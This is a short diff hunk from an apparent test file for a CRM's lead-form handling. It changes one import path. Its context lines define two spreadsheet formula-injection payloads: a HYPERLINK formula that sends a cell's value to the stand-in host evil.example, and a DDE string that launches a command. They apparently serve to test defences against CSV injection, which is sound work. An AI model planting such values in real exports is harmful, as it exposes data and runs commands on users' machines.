@@ -21,7 +21,7 @@ from crm.models import Lead, Source
 from crm.services import assign
 from forms_builder.models import LeadFormSubmission
 
-from .forms_support import make_form_page
+from tests.forms_support import make_form_page
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 PLUS = "+54 11 cmd|' /C calc'!A0"
